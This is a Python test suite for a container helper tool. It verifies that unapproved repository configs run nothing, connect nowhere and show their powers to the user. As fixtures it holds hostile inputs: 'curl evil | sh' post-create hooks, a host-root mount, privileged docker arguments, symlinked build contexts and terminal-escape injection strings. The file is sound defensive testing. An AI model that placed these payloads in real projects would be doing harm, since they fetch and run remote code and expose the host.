"""Configs that this person has not approved: hostile repositories do nothing before a yes, by whichever verb they are met."""
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest

import harness
from harness import Helper, Sandbox

VERBS = (("ensure",), ("ensure", "--dry-run"), ("ensure", "--quick"), ("plan",), ("status",), ("connect",), ("exec", "t1", "--", "true"), ("cp", "t1:/x", "y"),
         ("open", "jupyter"), ("open", "gateway", "--print"), ("settings",), ("settings", "--format", "ssh-config"), ("settings", "apply"), ("settings", "diff"),
         ("settings", "undo"), ("logs",), ("logs", "-f"), ("list",), ("gpu",), ("gpu", "--check"), ("python", "list"), ("snapshot",), ("stop",), ("restart",),
         ("remove", "--yes"), ("eject",))


class Listener:
    """A server of the attacker's: counts who connects."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()

    def close(self):
        self.socket.close()


class Trust(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.sandbox = Sandbox("trust")
        cls.sandbox.__enter__()
        cls.addClassCleanup(cls.sandbox.__exit__)

    def setUp(self):
        self.folder = tempfile.mkdtemp(prefix="helper-trust-", dir=self.sandbox.client)
        self.addCleanup(shutil.rmtree, self.folder)
        # What docker would be asked for, and what a ProxyCommand would do, leaves a mark.
        self.marks = os.path.join(self.folder, "marks")
        bin_folder = os.path.join(self.folder, "bin")
        os.makedirs(self.marks)
        os.makedirs(bin_folder)
        for name in ("docker", "podman"):
            self.write(f"bin/{name}", f"#!/bin/sh\ntouch {self.marks}/{name}\nexit 1\n", 0o755)
        self.helper = Helper(self.sandbox)
        self.helper.approves = False
        self.helper.environment["PATH"] = bin_folder + os.pathsep + self.helper.environment["PATH"]
        self.helper.environment["HELPER_TEST_SECRET"] = "hunter2"
        self.helper.run_once("rpc", "shutdown")  # the next daemon has this PATH
        self.listener = Listener()
        self.addCleanup(self.listener.close)
        self.repository = os.path.join(self.folder, "repository")
        os.makedirs(self.repository)
        self.helper.folder = self.repository

    def write(self, name, content, mode=0o644):
        path = os.path.join(self.folder, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as file:
            file.write(content)
        os.chmod(path, mode)
        return path

    def config(self, target, where="repository/helper.json"):
        return self.write(where, json.dumps({"targets": {"t1": target}}))

    def hostile(self, **container):
        return {"server": f"me@127.0.0.1:{self.listener.port}", "container": container or {"image": "x:1"}, "ssh": {"local_port": 24222},
                "jupyter": {"local_port": 24888}, "project": {"remote": "/workspace/x"}}

    def assert_nothing_happened(self):
        self.assertEqual(self.listener.connections, 0)
        self.assertEqual(os.listdir(self.marks), [])
        open_ports = subprocess.run(["ss", "-Hltn", "sport = :24222 or sport = :24888"], capture_output=True, text=True, check=True).stdout
        self.assertEqual(open_ports, "")

    def assert_refused(self, *argv):
        done = self.helper.run_once(*argv)
        self.assertEqual(done.returncode, 14, f"{argv}: {done.stdout}{done.stderr}")
        self.assertIn("untrusted", done.stdout + done.stderr)
        self.assertIn("helper trust ", done.stdout + done.stderr)
        return done

    def state(self):
        return json.loads(self.helper.run_once("rpc", "trusted", json.dumps({"folder": self.repository})).stdout)

    def test_no_verb_does_anything_before_a_yes(self):
        self.write("repository/Dockerfile", "FROM x\n")
        self.config(self.hostile(build={"context": "."}))
        for verb in VERBS:
            with self.subTest(verb=verb):
                self.assert_refused(*verb)
        self.assert_nothing_happened()
        document = json.loads(self.helper.run_once("status", "--json").stdout)
        self.assertEqual(document["error"]["name"], "untrusted")
        self.assertEqual(document["error"]["exit_status"], 14)

    def test_no_method_does_anything_before_a_yes(self):
        config = self.config(self.hostile())
        methods = [method["name"] for method in json.loads(self.helper.run_once("rpc", "methods").stdout)
                   if any(param["name"] == "config" for param in method["params"])]
        self.assertIn("ensure", methods)
        for method in sorted(set(methods) - {"targets", "trusted", "trust", "untrust"}):
            with self.subTest(method=method):
                done = self.helper.run_once("rpc", method, json.dumps({"config": config}))
                self.assertEqual(done.returncode, 14, done.stdout + done.stderr)
        done = self.helper.run_once("rpc", "trust", json.dumps({"config": config, "digest": "0" * 64}))
        self.assertEqual(done.returncode, 14, "a digest that nobody was shown")
        self.assert_nothing_happened()

    def test_a_proxy_command_of_the_alias_is_not_run(self):
        with open(os.path.join(self.sandbox.environment()["HOME"], ".ssh", "config"), "a", encoding="utf-8") as file:
            file.write(f"\nHost trust-alias\n  ProxyCommand touch {self.marks}/proxy\n")
        self.config({"server": "trust-alias", "container": {"image": "x:1"}})
        self.assert_refused("ensure")
        self.assert_nothing_happened()

    def test_hostile_repositories_show_what_they_would_do(self):
        secret = os.path.join(self.folder, "secret")
        os.makedirs(secret)
        os.symlink(secret, os.path.join(self.repository, "docker"))
        server = f"me@127.0.0.1:{self.listener.port}"
        for target, shown in (
                (self.hostile(build={"context": secret}), f"the folder {secret} (OUTSIDE the project)"),
                (self.hostile(build={"context": "docker"}), f"the folder docker, which leads to {secret} (OUTSIDE the project)"),
                ({"server": "local", "container": {"image": "x:1", "mounts": ["/:/host"]}}, "mounts /:/host"),
                ({"server": "local", "container": {"image": "x:1", "privileged": True, "extra_args": ["-v", "/etc:/e"]}}, "-v /etc:/e"),
                ({"server": server, "container": {"image": "x:1"}, "post_create": ["curl evil | sh"]}, "runs once in the container: curl evil | sh")):
            with self.subTest(target=target):
                self.config(target)
                self.assert_refused("ensure")
                self.assertTrue(any(shown in line for line in self.state()["powers"]), self.state()["powers"])
        self.assert_nothing_happened()

    def test_nothing_that_is_shown_can_steer_a_terminal_or_hide(self):
        target = self.hostile()
        target["post_create"] = ["true # \x1b[2J\x1b[1;1H \u202e \u200b\r\n  t1: connects to nowhere"]
        target["container"]["command"] = ["sh", "-c", "\x9b31m" + "a" * 1_000_000]
        self.config(target)
        seen, status = self.helper.answer_in_a_terminal("no", "ensure", folder=self.repository)
        self.assertEqual(status, 130, seen[-2000:])
        for bad in ("\x1b[2J", "\u202e", "\u200b", "\x9b", "\n  t1: connects to nowhere"):
            self.assertNotIn(bad, seen)
        self.assertIn("read the file", seen, "a line that is cut says so")
        before = self.state()["digest"]
        target["container"]["command"][2] += "b"
        self.config(target)
        self.assertNotEqual(self.state()["digest"], before)
        self.assert_nothing_happened()

    def test_a_config_that_is_swapped_while_the_question_is_open_is_asked_about_again(self):
        self.config(self.hostile())
        swapped = {**self.hostile(), "post_create": ["curl evil | sh"]}
        seen, status = self.helper.answer_in_a_terminal(("yes", "no"), "ensure", before_answer=lambda: self.config(swapped), folder=self.repository)
        self.assertIn("new: t1: runs once in the container: curl evil | sh", seen)
        self.assertEqual(status, 130, seen)
        self.assert_nothing_happened()

    def test_what_the_config_takes_over_counts_and_so_does_a_script_that_copy_puts_elsewhere(self):
        self.write("repository/.devcontainer/devcontainer.json", '{"build": {"dockerfile": "Dockerfile"}, "postCreateCommand": "sh /opt/hook.sh"}')
        self.write("repository/.devcontainer/Dockerfile", "FROM x\nCOPY . /opt\nRUN sh /opt/build.sh\n")
        self.config({"server": f"me@127.0.0.1:{self.listener.port}", "devcontainer": "."})
        for name in ("build.sh", "hook.sh"):
            self.write(f"repository/.devcontainer/{name}", "true\n")
        self.helper.run_once("trust")
        self.assertEqual(self.state()["state"], "trusted")
        for name, text in (("build.sh", "curl evil | sh\n"), ("hook.sh", "curl evil | sh\n"),
                           ("devcontainer.json", '{"image": "x:1", "postCreateCommand": "curl evil | sh"}')):
            self.write(f"repository/.devcontainer/{name}", text)
            self.assert_refused("ensure")
            self.assert_nothing_happened()
            self.helper.run_once("trust")

    def test_names_of_the_environment_are_shown_and_values_go_nowhere(self):
        self.write("repository/.devcontainer/devcontainer.json", '{"image": "x:1", "containerEnv": {"A": "${localEnv:HELPER_TEST_SECRET}"}}')
        self.config({"server": f"me@127.0.0.1:{self.listener.port}", "devcontainer": "."})
        self.assert_refused("ensure")
        done = self.helper.run_once("trust")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertIn("reads HELPER_TEST_SECRET of your environment", done.stdout)
        self.assertNotIn("hunter2", done.stdout)
        record = os.path.join(self.helper.environment["XDG_DATA_HOME"], "helper", "trust.json")
        self.assertEqual(os.stat(record).st_mode & 0o777, 0o600)
        with open(record, encoding="utf-8") as file:
            self.assertNotIn("hunter2", file.read())
        self.assert_nothing_happened()

    def test_a_no_in_a_terminal_is_a_no_and_a_yes_lasts_until_the_content_changes(self):
        self.write("repository/Dockerfile", "FROM x\n")
        self.write("repository/setup.sh", "echo one\n")
        target = {**self.hostile(build={"context": "."}), "post_create": ["bash setup.sh"]}
        self.config(target)
        seen, status = self.helper.answer_in_a_terminal("no", "ensure", folder=self.repository)
        self.assertIn("runs or sends the file setup.sh", seen)
        self.assertIn(f"sends to me@127.0.0.1:{self.listener.port} the folder", seen)
        self.assertEqual(status, 130, seen)
        self.assert_nothing_happened()
        seen, status = self.helper.answer_in_a_terminal("yes", "ensure", folder=self.repository)
        self.assertEqual(status, 4, seen)  # the attacker's server is no SSH server
        self.assertGreater(self.listener.connections, 0)
        self.helper.run_once("rpc", "shutdown")
        self.listener.connections = 0
        for name, text in (("Dockerfile", "FROM y\n"), ("setup.sh", "curl evil | sh\n")):
            self.write(f"repository/{name}", text)
            self.assertIn(f"changed: runs or sends the file {name}", self.assert_refused("ensure").stderr)
            self.assert_nothing_happened()
            self.helper.run_once("trust")
        self.config({**target, "python": "conda:x", "ssh": {"local_port": 24223}, "forwards": ["24300:80"]})
        self.assertEqual(self.state()["state"], "trusted", "harmless changes")
        self.assertEqual(self.helper.run_once("untrust").returncode, 0)
        self.assert_refused("ensure")

    def test_a_config_that_others_can_change_is_refused_without_a_question(self):
        outer = os.path.join(self.folder, "outer")
        self.helper.folder = os.path.join(outer, "mine")
        os.makedirs(self.helper.folder)
        config = self.config({"server": "local", "container": {"image": "x:1", "mounts": ["/:/host"]}}, "outer/helper.json")
        os.chown(config, 12345, 12345)
        self.assertIn("belongs to user 12345", self.assert_refused("ensure").stderr)
        os.chown(config, 0, 0)
        os.chmod(outer, 0o1777)
        self.assertIn("every user of this machine may write in", self.assert_refused("ensure").stderr)
        self.assert_nothing_happened()
        self.assertEqual(self.helper.run_once("trust", config).returncode, 0)
        self.assertEqual(self.helper.run_once("plan").returncode, 5, "it is the engine now that is missing")
        os.chmod(outer, 0o755)

    def test_a_link_to_a_config_that_is_approved_elsewhere_is_asked_about(self):
        known = os.path.join(self.folder, "known")
        os.makedirs(known, exist_ok=True)
        self.config(self.hostile(build={"context": "."}), "known/helper.json")
        self.write("known/Dockerfile", "FROM x\nCOPY . /app\n")
        self.assertEqual(self.helper.run_once("trust", os.path.join(known, "helper.json")).returncode, 0)
        os.symlink("../known/helper.json", os.path.join(self.repository, "helper.json"))
        self.write("repository/Dockerfile", "FROM x\nCOPY . /app\n")
        self.write("repository/private.txt", "secret\n")
        self.assert_refused("ensure")
        self.assert_nothing_happened()

    def test_init_writes_through_no_link(self):
        for there in (False, True):
            victim = os.path.join(self.folder, f"victim-{there}")
            if there:
                self.write(f"victim-{there}", "mine\n")
            os.symlink(victim, os.path.join(self.repository, "helper.json"))
            done = self.helper.run_once("init", "--force", "--image", "x:1", "--target", "t1")
            self.assertEqual(done.returncode, 2, done)
            self.assertIn("is a link to", done.stderr)
            self.assertEqual(os.path.exists(victim), there)
            os.remove(os.path.join(self.repository, "helper.json"))

    def test_what_init_writes_and_the_own_config_need_no_yes(self):
        done = self.helper.run_once("init", "--image", "x:1", "--target", "t1")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertEqual(self.state()["state"], "trusted")
        listed = self.helper.run_once("trust", "--list").stdout
        self.assertIn(os.path.join(os.path.realpath(self.repository), "helper.json"), listed)
        self.assertIn("written by helper init", listed)
        os.remove(os.path.join(self.repository, "helper.json"))
        os.rename(os.path.join(self.sandbox.client, "helper.json"), os.path.join(self.sandbox.client, "kept.json"))
        self.addCleanup(os.rename, os.path.join(self.sandbox.client, "kept.json"), os.path.join(self.sandbox.client, "helper.json"))
        self.helper.folder = "/"
        done = self.helper.run_once("status")
        self.assertNotEqual(done.returncode, 14, done.stdout + done.stderr)


if __name__ == "__main__":
    harness.main()
